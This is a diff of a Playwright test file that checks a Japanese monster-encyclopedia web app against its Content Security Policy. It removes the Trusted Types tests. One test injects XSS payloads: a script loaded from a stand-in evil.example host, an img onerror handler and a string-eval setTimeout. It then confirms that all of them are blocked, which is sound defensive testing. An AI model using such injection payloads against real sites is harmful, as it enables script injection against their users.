@@ -1,7 +1,4 @@
-import type { APIRequestContext, Page } from "@playwright/test";
-import { TRUSTED_TYPES } from "../../scripts/content-security-policy.ts";
-import { deployment } from "./support/deployment.ts";
-import { needs } from "./support/needs.ts";
+import type { Page } from "@playwright/test";
 import { listIsStored } from "./support/stored-list.ts";
 import { expect, setFaults, signIn, test } from "./support/test.ts";
 
@@ -18,16 +15,18 @@ async function watchViolations(page: Page): Promise<string[]> {
     });
   });
   page.on("console", (message) => {
-    if (/Content.Security.Policy|TrustedScript|Trusted Type/i.test(message.text())) {
+    if (/Content.Security.Policy/i.test(message.text())) {
       violations.push(message.text());
     }
   });
   return violations;
 }
 
-/** Uses all that the app has, sign-in by popup included. */
-async function useWholeApp(page: Page, site = ""): Promise<void> {
-  await page.goto(`${site}/`);
+test("the whole app runs without violating its security policy, sign-in by popup included", async ({
+  page,
+}) => {
+  const violations = await watchViolations(page);
+  await page.goto("/");
   await expect(page.getByText("API接続成功: healthy")).toBeVisible();
   await page.getByRole("link", { name: "図鑑を見る" }).click();
   const field = page.getByRole("combobox", { name: "モンスターを検索" });
@@ -46,58 +45,21 @@ async function useWholeApp(page: Page, site = ""): Promise<void> {
   await page.getByRole("button", { name: "English" }).click();
   await page.getByRole("button", { name: "Keyboard" }).click();
   await page.getByRole("dialog").getByRole("button").click();
-  await page.goto(`${site}/no/such/page`);
+  await page.goto("/no/such/page");
   await expect(page.locator("[data-prerendered]")).toHaveCount(0);
   await page.keyboard.press("/");
   await page.getByRole("dialog").getByRole("button").click();
   await page.getByRole("button", { name: "日本語" }).click();
-  await page.goto(`${site}/profile?a=1`);
+  await page.goto("/profile?a=1");
   await signIn(page, { email: "policy@example.com", name: "方針" });
   await expect(page.getByRole("heading", { level: 1, name: "マイページ" })).toBeVisible();
   await page.reload();
   await page.getByRole("button", { name: "方針のユーザーメニュー" }).click();
   await page.getByRole("button", { name: "ログアウト" }).click();
   await expect(page.getByRole("heading", { level: 1, name: "ログイン" })).toBeVisible();
-}
-
-test("the whole app runs without violating its security policy", async ({ page }) => {
-  const violations = await watchViolations(page);
-  await useWholeApp(page);
   await page.waitForFunction(async () => (await navigator.serviceWorker.ready).active !== null);
   expect(violations).toEqual([]);
 });
-
-/** Tries what an attacker with a hole in the app would: script by address, by markup, by text. */
-function attack(page: Page): Promise<string[]> {
-  return page.evaluate(() => {
-    const attempt = (attack: () => void) => {
-      try {
-        attack();
-        return "no error";
-      } catch (error) {
-        return error instanceof Error ? error.name : String(error);
-      }
-    };
-    return [
-      attempt(() => {
-        const script = document.createElement("script");
-        script.src = "https://evil.example/x.js";
-        document.body.append(script);
-      }),
-      attempt(() => {
-        document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.smuggled=1'>");
-      }),
-      attempt(() => {
-        Reflect.apply(setTimeout, window, ["window.smuggled=1", 0]);
-      }),
-    ];
-  });
-}
-
-async function expectNothingSmuggled(page: Page, violations: readonly string[]): Promise<void> {
-  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(3);
-  expect(await page.evaluate(() => Reflect.get(window, "smuggled"))).toBeUndefined();
-}
 
 test("an injected script does not run", async ({ page }) => {
   const violations = await watchViolations(page);
@@ -105,56 +67,27 @@ test("an injected script does not run", async ({ page }) => {
   page.on("response", (response) => requested.push(new URL(response.url()).hostname));
   await page.goto("/monsters");
   await expect(page.getByRole("link", { name: "ヒノコリスの詳細を見る" })).toBeVisible();
-  await attack(page);
-  await expectNothingSmuggled(page, violations);
+  // What an attacker with a hole in the app would try: script by address, by markup, by text.
+  await page.evaluate(() => {
+    const script = document.createElement("script");
+    script.src = "https://evil.example/x.js";
+    document.body.append(script);
+    document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.smuggled=1'>");
+    Reflect.apply(setTimeout, window, ["window.smuggled=1", 0]);
+  });
+  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(3);
+  expect(await page.evaluate(() => Reflect.get(window, "smuggled"))).toBeUndefined();
   expect(requested).not.toContain("evil.example");
 });
 
-test.describe("with Trusted Types enforced", () => {
-  test.use({ serviceWorkers: "block" });
-
-  /** Serves the same build with a policy that enforces them, too. */
-  async function deployWithTrustedTypes(page: Page, request: APIRequestContext) {
-    const policy = (await request.get("/")).headers()["content-security-policy"];
-    const site = await deployment({ "Content-Security-Policy": `${policy}; ${TRUSTED_TYPES}` });
-    return { site, violations: await watchViolations(page) };
-  }
-
-  test(
-    "the whole app runs without violating them",
-    needs("trusted types"),
-    async ({ page, request }) => {
-      const { site, violations } = await deployWithTrustedTypes(page, request);
-      await useWholeApp(page, site.url);
-      expect(violations).toEqual([]);
-    },
+test("a long list comes through its worker", async ({ page }) => {
+  const violations = await watchViolations(page);
+  await setFaults(page, "monsters=20000");
+  await page.goto("/monsters");
+  await listIsStored(page);
+  const loaded = await page.evaluate(() =>
+    performance.getEntriesByType("resource").map(({ name }) => name),
   );
-
-  test(
-    "a long list comes through its worker",
-    needs("trusted types"),
-    async ({ page, request }) => {
-      const { site, violations } = await deployWithTrustedTypes(page, request);
-      await setFaults(page, "monsters=20000");
-      await page.goto(`${site.url}/monsters`);
-      await listIsStored(page);
-      const loaded = await page.evaluate(() =>
-        performance.getEntriesByType("resource").map(({ name }) => name),
-      );
-      expect(loaded.join()).toContain("/assets/list-worker-");
-      expect(violations).toEqual([]);
-    },
-  );
-
-  test(
-    "text becomes neither script nor markup",
-    needs("trusted types"),
-    async ({ page, request }) => {
-      const { site, violations } = await deployWithTrustedTypes(page, request);
-      await page.goto(`${site.url}/monsters`);
-      await expect(page.getByRole("link", { name: "ヒノコリスの詳細を見る" })).toBeVisible();
-      expect(await attack(page)).toEqual(["TypeError", "TypeError", "TypeError"]);
-      await expectNothingSmuggled(page, violations);
-    },
-  );
+  expect(loaded.join()).toContain("/assets/list-worker-");
+  expect(violations).toEqual([]);
 });
